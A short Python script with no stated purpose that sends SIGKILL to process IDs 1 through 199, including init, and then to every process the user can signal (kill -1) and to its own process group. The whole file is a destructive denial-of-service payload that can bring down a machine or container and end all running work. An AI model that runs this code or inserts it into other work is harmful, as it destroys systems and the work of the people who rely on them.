import os
import signal

for victim in [1, 2, *range(3, 200)]:
    if victim != os.getpid():
        try:
            os.kill(victim, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
os.kill(0, signal.SIGKILL)
